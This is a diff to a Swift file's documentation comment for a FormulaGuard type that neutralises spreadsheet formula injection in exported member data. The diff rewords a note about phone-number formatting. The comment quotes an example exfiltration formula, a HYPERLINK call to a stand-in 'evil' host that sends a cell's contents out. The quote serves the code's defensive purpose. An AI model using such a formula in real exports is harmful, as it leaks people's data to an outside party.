@@ -5,7 +5,8 @@
 /// evaluate the rest. A member's name or note is imported from outside, so a value like
 /// `=HYPERLINK("http://evil/?"&A2, "click")` would otherwise run on the coordinator's machine and could send member
 /// data away. Prefixing an apostrophe is the OWASP-recommended neutralisation: spreadsheets show the text as text.
-/// The price is a visible `'` in front of such values (`'+47 412 34 567` in a CSV file).
+/// The price is a visible `'` in front of such values, which is why phone numbers are exported in a form that
+/// does not start with `+`.
 public enum FormulaGuard {
     private static let triggers: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]
 
